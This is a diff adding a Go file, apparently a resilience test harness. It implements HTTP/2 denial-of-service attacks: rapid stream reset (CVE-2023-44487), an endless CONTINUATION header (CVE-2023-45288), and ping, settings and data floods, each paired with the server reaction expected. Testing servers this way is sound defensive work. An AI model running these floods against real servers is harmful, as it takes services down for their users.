@@ -1,0 +1,119 @@
+package abuse
+
+import (
+	"bytes"
+	"crypto/tls"
+	"errors"
+	"io"
+	"net"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+func http2Attacks() []Attack {
+	return []Attack{
+		{"HTTP/2: rapid reset", "streams wait for a handler; too many of them end the connection", "GOAWAY", 4, rapidReset},
+		{"HTTP/2: CONTINUATION without end", "ended over the limit of a head", "GOAWAY", 4, continuations},
+		{"HTTP/2: pings without end, no answer read", "ended once its queue is full", "closed", 4, flood(func(f *http2.Framer) error { return f.WritePing(false, [8]byte{}) })},
+		{"HTTP/2: settings without end, no answer read", "ended once its queue is full", "closed", 4, flood(func(f *http2.Framer) error { return f.WriteSettings() })},
+		{"HTTP/2: empty data without end", "ended, or the stream answered", "closed", 4, flood(func(f *http2.Framer) error { return f.WriteData(1, false, nil) })},
+	}
+}
+
+// speak opens a connection that speaks HTTP/2 over TLS.
+func (a *attacker) speak() (net.Conn, *http2.Framer, error) {
+	plain, err := a.dial(a.at.TLS)
+	if err != nil {
+		return nil, nil, err
+	}
+	conn := tls.Client(plain, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}) //nolint:gosec // the certificate is made up
+	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
+		return nil, nil, errors.Join(err, plain.Close())
+	}
+	f := http2.NewFramer(conn, conn)
+	return conn, f, f.WriteSettings()
+}
+
+// headers is a block of fields for a path.
+func headers(path string, more ...hpack.HeaderField) []byte {
+	var b bytes.Buffer
+	e := hpack.NewEncoder(&b)
+	for _, f := range append([]hpack.HeaderField{
+		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "a"}, {Name: ":path", Value: path},
+	}, more...) {
+		_ = e.WriteField(f) // a buffer gives no error
+	}
+	return b.Bytes()
+}
+
+// rapidReset opens streams and resets them at once (CVE-2023-44487).
+func rapidReset(a *attacker) error {
+	conn, f, err := a.speak()
+	if err != nil {
+		return err
+	}
+	defer func() { _ = conn.Close() }()
+	go func() { _, _ = io.Copy(io.Discard, conn) }()
+	block := headers("/block?nonce=a&ms=5")
+	for id := uint32(1); id < 20_000 && a.ctx.Err() == nil; id += 2 {
+		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
+		if err == nil {
+			err = f.WriteRSTStream(id, http2.ErrCodeCancel)
+		}
+		if err != nil {
+			return nil // given up
+		}
+		if id%401 == 0 && !a.pause(5*time.Millisecond) {
+			return nil
+		}
+	}
+	return nil
+}
+
+// continuations begins a head that does not end (CVE-2023-45288).
+func continuations(a *attacker) error {
+	conn, f, err := a.speak()
+	if err != nil {
+		return err
+	}
+	defer func() { _ = conn.Close() }()
+	go func() { _, _ = io.Copy(io.Discard, conn) }()
+	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headers("/ping?nonce=a"), EndStream: true}); err != nil {
+		return err
+	}
+	more := headers("", hpack.HeaderField{Name: "x", Value: string(bytes.Repeat([]byte("a"), 10_000))})[4:]
+	for sent := 0; a.ctx.Err() == nil; sent += len(more) {
+		if sent > 256<<20 {
+			return errors.New("256 MiB of a head were taken")
+		}
+		if err := f.WriteContinuation(1, false, more); err != nil {
+			return nil // given up
+		}
+	}
+	return nil
+}
+
+// flood writes frames that are answered, and reads nothing.
+func flood(write func(f *http2.Framer) error) func(a *attacker) error {
+	return func(a *attacker) error {
+		conn, f, err := a.speak()
+		if err != nil {
+			return err
+		}
+		defer func() { _ = conn.Close() }()
+		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headers("/ping?nonce=a"), EndHeaders: true}); err != nil {
+			return err
+		}
+		for n := 0; a.ctx.Err() == nil; n++ {
+			if n > 20_000_000 {
+				return errors.New("20 million frames were taken")
+			}
+			if err := write(f); err != nil {
+				return nil // given up
+			}
+		}
+		return nil
+	}
+}
